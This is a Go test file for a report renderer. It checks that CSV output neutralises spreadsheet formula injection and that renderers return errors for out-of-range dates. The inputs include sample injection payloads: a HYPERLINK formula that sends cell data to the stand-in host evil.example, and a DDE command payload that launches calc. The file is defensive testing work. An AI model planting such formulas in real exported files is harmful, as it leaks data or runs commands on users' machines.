package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/gyeco/syndicator/syndicator"
	"github.com/gyeco/syndicator/syndicator/audit"
)

// TestCSVCellsAreNotFormulas: titles and document numbers come from the
// source sites. A cell starting with = + - @, a tab or a carriage return
// is a formula to a spreadsheet program (OWASP, CSV injection), so it is
// written with a leading single quote; other cells, and the numbers and
// times the report computes, are written as they are.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"}
	var r audit.Report
	for i, s := range evil {
		r.Items = append(r.Items, audit.ItemRow{ItemID: s, DocKey: s, Title: s, DocNumber: s, Source: s, Class: syndicator.Class(s),
			Where: s, ArchiveKeys: []string{s}, WARC: s, OriginalSHA256: s, PublishedSHA256: s, Status: audit.Status(s),
			Precision: syndicator.Precision(s), LagHours: -1.5, DateOnly: true, LagMinHours: -2, LagMaxHours: float64(i)})
	}
	r.Items = append(r.Items, audit.ItemRow{ItemID: "x1", Title: "关于 -1 号=文件的通知", DocNumber: "国发〔2026〕1号", Status: audit.StatusOnTime,
		Upstream: time.Date(2026, 9, 1, 10, 0, 0, 0, syndicator.Shanghai)})
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(render(t, CSV, r), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	numeric := map[int]bool{col["滞后小时"]: true, col["滞后范围（小时）"]: true, col["上游发布时间"]: true, col["首次发现"]: true,
		col["转载发布"]: true, col["时限"]: true}
	for i, s := range evil {
		for j, c := range rows[i+1] {
			switch {
			case numeric[j]:
				if strings.HasPrefix(c, "'") {
					t.Errorf("row %d %s = %q: a number the report computed got a quote", i, rows[0][j], c)
				}
			case c != "'"+s:
				t.Errorf("row %d %s = %q, want %q", i, rows[0][j], c, "'"+s)
			}
		}
	}
	last := rows[len(rows)-1]
	if last[col["标题"]] != "关于 -1 号=文件的通知" || last[col["发文字号"]] != "国发〔2026〕1号" || last[col["状态"]] != "按时" ||
		last[col["滞后小时"]] != "0" {
		t.Errorf("an ordinary row changed: %q", last)
	}
}

// TestRenderersReturnErrors: a time after the year 9999 (the day after
// --to 9999-12-31) made JSON panic; every renderer returns instead.
func TestRenderersReturnErrors(t *testing.T) {
	r := audit.Report{To: time.Date(10000, 1, 1, 0, 0, 0, 0, syndicator.Shanghai), Items: []audit.ItemRow{}}
	if b, err := JSON(r); err == nil || b != nil {
		t.Errorf("JSON of a year-10000 report: %d bytes, err %v; want an error", len(b), err)
	}
	for name, f := range map[string]func(audit.Report) ([]byte, error){"html": htmlOf(Names{}), "csv": CSV} {
		if _, err := f(r); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}
